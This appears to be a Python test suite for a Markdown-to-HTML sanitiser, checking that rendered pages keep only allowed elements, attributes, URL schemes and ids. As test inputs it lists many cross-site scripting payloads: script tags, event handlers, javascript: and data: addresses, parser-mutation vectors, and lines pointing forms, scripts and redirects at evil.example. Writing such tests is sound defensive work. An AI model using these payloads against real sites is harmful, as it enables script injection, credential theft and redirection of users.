"""Whatever a body holds, the page gets only elements, attributes and addresses that are allowed."""

from __future__ import annotations

import html
import re
from collections import Counter
from itertools import chain

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from congtin.catalogue.markdown import (
    ATTRIBUTES,
    CLASSES,
    FRAME_ID_PREFIX,
    TAGS,
    URL_SCHEMES,
    Dialect,
    Fragment,
    render,
    sanitise,
)

DIALECTS: tuple[Dialect, ...] = ("commonmark", "python-markdown")
VOID = {"br", "col", "hr", "img", "wbr"}
TOKEN = re.compile(r'<(/?)([a-z][a-z0-9]*)((?: [^ =<>"]+="[^"<>]*")*)>|([^<>]+)')
ATTRIBUTE = re.compile(r' ([^ =<>"]+)="([^"]*)"')
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def assert_allowed(element: str, attributes: dict[str, str]) -> None:
    assert element in TAGS, element
    own = dict(attributes)
    assert set(own.pop("class", "").split()) <= CLASSES.get(element, set())
    assert own.keys() <= ATTRIBUTES["*"] | ATTRIBUTES.get(element, set()), (element, own)
    for name in own.keys() & {"href", "src", "cite"}:
        assert_scheme(own[name])


def assert_scheme(address: str) -> None:
    # As a browser reads it: no control characters before, no tabs and line ends within.
    scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", address.lstrip("".join(map(chr, range(33))))))
    assert scheme is None or scheme[1].lower() in URL_SCHEMES, address


def assert_harmless(fragment: Fragment) -> None:
    """Assert that two readings of the HTML, as written and as lxml sees it, hold only what is allowed."""
    stack: list[str] = []
    ids: list[str] = []
    headings: list[tuple[int, str]] = []
    position = 0
    while position < len(fragment.html):
        token = TOKEN.match(fragment.html, position)
        assert token, fragment.html[position : position + 80]
        position = token.end()
        if token[4]:
            continue
        if token[1]:
            assert stack.pop() == token[2]
            continue
        attributes = {name: html.unescape(value) for name, value in ATTRIBUTE.findall(token[3])}
        assert_allowed(token[2], attributes)
        ids += [attributes["id"]] if "id" in attributes else []
        if re.fullmatch("h[1-6]", token[2]):
            headings.append((int(token[2][1]), attributes["id"]))
        if token[2] not in VOID:
            stack.append(token[2])
    assert not stack
    parser = lxml.html.HTMLParser(huge_tree=True, encoding="utf-8")
    body = lxml.html.document_fromstring(f"<body>{fragment.html}<hr></body>".encode(), parser=parser).find("body")
    assert body is not None
    for element in body.iterdescendants():
        assert isinstance(element.tag, str), element
        assert_allowed(element.tag, {str(k): str(v) for k, v in element.attrib.items()})
    assert [name for name, count in Counter(ids).items() if count > 1] == []
    assert not any(name.startswith(FRAME_ID_PREFIX) or re.search(r"\s", name) for name in ids)
    assert [(h.level, h.id) for h in fragment.headings] == headings


SCRIPTS = (
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)//\n\n</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<style>@import '//evil.example'</style>",
    "<style>body{display:none}",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'><embed src=x></object>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<textarea><script>alert(1)</script></textarea><select><option>x",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example>",
    "<html><head><title>x</title></head><body onload=alert(1)><frameset onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x>",
    "<marquee onstart=alert(1)>x</marquee><bgsound src=x><keygen autofocus onfocus=alert(1)>",
    "<dialog open>x</dialog><slot name=x></slot><portal src=//evil.example></portal>",
)
HANDLERS = (
    "<p onclick=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' ONERROR='alert(1)' oNlOaD=alert(1)>",
    "<details open ontoggle=alert(1)><summary onfocus=alert(1) tabindex=1 autofocus>x</summary></details>",
    "<a href=/x ping=//evil.example target=_blank download rel=x>x</a>",
    '<p style="background:url(javascript:alert(1))" class="skip-link notice">x</p>',
    '<div style="position:fixed;inset:0" id="main" name="body" slot=x part=x is=x contenteditable>x</div>',
    "## Title {onclick=alert(1) style=color:red .notice #x}",
    "## Title {: onclick=alert(1) style=color:red .notice #x }",
    "text\n{: onclick=alert(1) style=color:red }",
    "![x](y){: onerror=alert(1) }",
    '![x" onerror="alert(1)](y "t\\" onload=\\"alert(1)")',
    '[x](y "t&quot; onclick=&quot;alert(1)")',
    "``` x onclick=alert(1)\ncode\n```",
    '| a |\n|---|\n| <b onclick=alert(1) style="x">b</b> |',
    '*[HTML]: x" onclick="alert(1)\n\nHTML',
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\tscript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x20;&#x1F;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\\:alert(1)",
    "java\\script:alert(1)",
    "javascript://example.vn/%0Aalert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "DATA:image/png;base64,AAAA",
    "blob:https://example.vn/1",
    "file:///etc/passwd",
    "filesystem:https://example.vn/1",
    "about:blank",
    "ftp://example.vn/",
    "jar:https://example.vn!/x",
    "intent://x#Intent;end",
    "ct-scheme:x",
)
PLACES = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "![x](<{}> 'caption')",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x]\n\n[x]: <{}> 'title'",
    "![x]\n\n[x]: {}",
    "[![x]({})]({})",
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    "<img src='{}' alt=x>",
    "<p><img alt='x' title='caption' src='{}'></p>",
    "<blockquote cite='{}'>x</blockquote>",
    "<q cite='{}'>x</q><del cite='{}'>y</del><ins cite='{}'>z</ins>",
    "<svg><a xlink:href='{}'>x</a></svg>",
    "<a href='/x' href='{}' xlink:href='{}'>x</a>",
    "x[^1]\n\n[^1]: <a href='{}'>note</a>",
    "term\n: [x]({})",
    "| [x]({}) |\n|---|\n| ![x]({}) |",
)
MUTATIONS = (
    "<svg><p><style><img src=1 href=1 onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><table id=table><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml>",
    "<math><annotation-xml encoding='text/html'><svg><foreignobject><iframe srcdoc=x></iframe>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><title><style></title><img src=x onerror=alert(1)></style></caption></table>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></a></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>&x;",
    "<img src=`x` title='`onerror=alert(1)'>",
    "<a title='&lt;/a&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</a>",
    '<p title=" id=">x</p><h2 title="<h2>">y</h2>',
    "<h2 title='></h2><script>alert(1)</script>'>y</h2>",
    "`<script>alert(1)</script>` &lt;script&gt;alert(1)&lt;/script&gt;",
    '<td style="text-align: center" title=\'<td style="text-align: left"\'>',
    "<table><td><p title='<td style=\"text-align: left\"><script>alert(1)</script>'>x",
    '<p><img src="x" alt="y" title="&lt;script&gt;alert(1)&lt;/script&gt;"></p>',
    "![x](y '<script>alert(1)</script>')",
    '<sup class="footnote-reference"><a href="#&quot;><script>alert(1)</script>">1</a></sup>',
)
UNCLOSED = (
    "<",
    "<!--",
    "<!-- x\n\ny",
    "<!",
    "<![CDATA[",
    "<?",
    "</",
    "<a",
    "<a href='",
    '<a href="/x" title="',
    "<div><p><b><i>x",
    "</div></p></b>x",
    "<b><i>x</b>y</i>",
    "<table><tr><td>x",
    "<table><b>x<tr>y",
    "<li>x<td>y<dd>z<summary>w",
    "<a href=/x><a href=/y>x</a></a>",
    "<p><div><p></div></p>",
    "<h2><h3>x</h2></h3>",
    "<h2>x",
    "<h1><div><h1>x</h1></div></h1>",
    "<ol><ul></ol></ul>",
    "&#0; &#xD800; &#x110000; &#128; &nosuch; \x00 \x0b \ufeff \ufffe",
)


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("text", [*SCRIPTS, *HANDLERS, *MUTATIONS, *UNCLOSED])
def test_an_attack_leaves_nothing_but_allowed_elements_and_attributes(text: str, dialect: Dialect) -> None:
    """A script, handler, frame, form, style or broken tag, alone or amid text, reaches no reader."""
    for whole in (text, f"before\n\n{text}\n\nafter", f"- item\n\n  {text}\n", f"> {text}", f"*{text}*"):
        fragment = render(whole, dialect)
        assert_harmless(fragment)
        assert sanitise(fragment.html) == fragment.html, "a browser would read the page differently"


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("place", PLACES)
def test_an_address_with_another_scheme_is_taken_out_wherever_it_stands(place: str, dialect: Dialect) -> None:
    """Links, pictures, autolinks, references and quotations lead only to schemes on the list."""
    for address in ADDRESSES:
        fragment = render(place.replace("{}", address), dialect)
        assert_harmless(fragment)
        for target in chain(fragment.links, (source for source, _ in fragment.images)):
            assert_scheme(target)


@pytest.mark.parametrize("dialect", DIALECTS)
def test_the_good_addresses_stay_as_they_were_written(dialect: Dialect) -> None:
    """Relative addresses, https, http, mailto, tel and item are kept in links, pictures and quotations."""
    for address in (
        "/a/b",
        "b.html",
        "#x",
        "?q=1",
        "//x.vn/",
        "https://x.vn/?a=1&b=2",
        "mailto:a@x.vn",
        "tel:+84",
        "item:k",
    ):
        assert render(f"[x]({address})", dialect).links == (address,)
        assert render(f"![x]({address})", dialect).images == ((address, "x"),)
        cited = render(f"<blockquote cite='{address}'>x</blockquote>", dialect).html
        assert f'cite="{html.escape(address)}"' in cited


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "text",
    [
        "## Menu {#ct-menu}",
        "## Menu {: #ct-menu }",
        "## Ct menu\n\n## ct-ct-menu\n\n## Ct\n\n## Ct",
        "<h2 id='ct-menu'>x</h2><p ID=ct-menu>y</p>",
        "<p id=' ct-menu '>x</p>",
        "<p id='&#99;t-menu'>x</p>",
        "<p id='ct'>x</p><p id='ct'>y</p>",
        "<p title=' id=' id=ct-x>z</p>",
    ],
)
def test_content_never_takes_an_id_of_the_pages_own_frame(text: str, dialect: Dialect) -> None:
    """However it is written, an id that begins with the frame's prefix gets another beginning."""
    fragment = render(text, dialect)
    assert_harmless(fragment)
    assert 'id="ct-' not in fragment.html


def test_text_that_only_looks_like_an_id_of_the_frame_is_left_alone() -> None:
    """A paragraph about the page's source code keeps its words."""
    assert render('Write ` id="ct-menu"` or id="ct-menu".').text == 'Write id="ct-menu" or id="ct-menu".'


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize(
    "label",
    ["*", "日本", "Chú thích", 'a"b', "a'b", "<b>", "a&b", "&quot;", "x y", "ct-x", "1", "`c`", "a/b", "%", "^"],
)
def test_a_footnote_label_with_odd_characters_cannot_break_out(label: str, dialect: Dialect) -> None:
    """Labels become plain ids, whatever they hold."""
    assert_harmless(render(f"a[^{label}] b[^{label}] c[^1]\n\n[^{label}]: note\n\n[^1]: one", dialect))


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", ['a"b', "a'b", "<b>", "a&b", "&quot;", "a>b", "đường", "a=b", "{", "#", "a`b", '"'])
def test_a_heading_id_with_quotes_cannot_break_out(name: str, dialect: Dialect) -> None:
    """An author's id stays one attribute."""
    assert_harmless(render(f"## A {{#{name}}}\n\n## B {{: #{name} }}\n\n<h2 id='{html.escape(name)}'>C</h2>", dialect))


DEEP = {
    "quotations": ">" * 10_000,
    "stars": "*" * 10_000,
    "opened emphasis": "*a **b " * 10_000,
    "lists": "- " * 5_000 + "x",
    "lists in lines": "\n".join(" " * depth + "- x" for depth in range(0, 600, 2)),
    "divisions": "<div>" * 10_000,
    "headings in headings": "<h2><div>" * 3_000,
    "bold": "<b>" * 10_000,
    "formatting across paragraphs": "<b><p>" * 300,
    "pictures": "![" * 50_000,
    "links": "[a](" * 50_000,
    "tables": "<table><tr><td>" * 2_000,
    "code marks": " ".join("`" * length for length in range(300)),
    "comments": "<!-- " * 10_000,
    "entities": "&" * 50_000,
    "less-than signs": "<" * 20_000,
    "footnotes in footnotes": "".join(f"[^{n}]: x[^{n + 1}]\n\n" for n in range(1_000)) + "[^0]",
}


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("what", DEEP)
def test_very_deep_nesting_comes_to_an_end(what: str, dialect: Dialect) -> None:
    """Ten thousand levels are rendered, not a traceback."""
    fragment = render(DEEP[what], dialect)
    assert sanitise(fragment.html) == fragment.html or what == "formatting across paragraphs"
    assert_harmless(fragment)


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_megabyte_of_brackets_comes_to_an_end(dialect: Dialect) -> None:
    """One million opening brackets are text."""
    assert render("[" * 1_000_000, dialect).text == "[" * 1_000_000


def test_a_hundred_thousand_headings_of_one_name_all_get_an_id() -> None:
    """Looking for a free number does not start from the beginning for each heading."""
    fragment = render("## Điều\n" * 100_000)
    assert [fragment.headings[n].id for n in (0, 1, 99_999)] == ["dieu", "dieu-2", "dieu-100000"]


PIECES = (
    *SCRIPTS,
    *HANDLERS,
    *MUTATIONS,
    *UNCLOSED,
    *(place.replace("{}", address) for place in PLACES[:12] for address in ADDRESSES[:8]),
    *("\n", "\n\n", "    ", "\t", " ", "- ", "> ", "1. ", "# ", "## ", "Ct-", "{#ct-x}", "{#x}", "{: #x }", "{#muc-2}"),
    *(
        "*",
        "**",
        "_",
        "~~",
        "`",
        "```\n",
        "|",
        "|-|\n",
        ": ",
        "[^1]",
        "[^*]",
        "\n[^1]: ",
        "![",
        "](",
        ")",
        "[",
        "]",
        "\\",
    ),
    *(
        "<h1>",
        "</h1>",
        "<H2 id=x>",
        "</h2>",
        "<p id=x>",
        "<p id=fn-1>",
        "<div>",
        "</div>",
        "<b>",
        "</p>",
        "<pre>",
        "Điều",
    ),
    *(
        "<td>",
        "<table>",
        "<tr>",
        "<ul><li>",
        "<a href=x>",
        "</a>",
        "<svg>",
        "<math>",
        "<style>",
        "<!--",
        "-->",
        "&#",
        "\x00",
    ),
)
BODIES = st.lists(st.sampled_from(PIECES) | st.text(max_size=6), max_size=12).map("".join)


@settings(max_examples=400, deadline=None)
@given(text=BODIES | st.text(), dialect=st.sampled_from(DIALECTS))
def test_any_text_at_all_becomes_harmless_html_with_unique_ids(text: str, dialect: Dialect) -> None:
    """Only allowed elements, attributes and schemes; the same twice; every heading with an id of its own."""
    fragment = render(text, dialect)
    assert_harmless(fragment)
    assert render(text, dialect) == fragment
